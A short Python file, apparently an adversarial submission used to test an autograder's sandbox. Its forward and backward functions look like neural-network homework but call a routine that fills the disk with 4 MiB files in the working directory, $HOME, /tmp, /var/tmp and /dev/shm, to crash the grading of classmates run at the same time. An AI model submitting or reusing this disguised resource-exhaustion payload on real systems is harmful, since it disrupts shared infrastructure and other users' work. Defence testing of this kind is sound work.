"""Attack: fill the grader's disk so that classmates graded at the same time crash. Each file
stays under any per-file limit (4 MiB); the number of files is what fills the disk. Tries its
working directory, $TMPDIR, $HOME, /tmp, /var/tmp and /dev/shm, then re-raises what stopped
it in the working directory, so the failure message shows which defence held."""

import os

CHUNK = b"\0" * (4 << 20)


def _fill(directory, limit=100_000):
    for i in range(limit):
        try:
            with open(os.path.join(directory, f"fill-{os.getpid()}-{i}"), "wb") as handle:
                handle.write(CHUNK)
        except OSError as exc:
            return exc
    return None


def _attack():
    stopped = _fill(os.getcwd())
    for directory in {os.environ.get("TMPDIR", ""), os.environ.get("HOME", ""), "/tmp", "/var/tmp",
                      "/dev/shm"} - {"", os.getcwd()}:
        _fill(directory, limit=1000)
    if stopped is not None:
        raise stopped
    return []


def forward(X, params):
    return _attack()


def backward(activations, pre_activations, Y, params):
    return _attack()
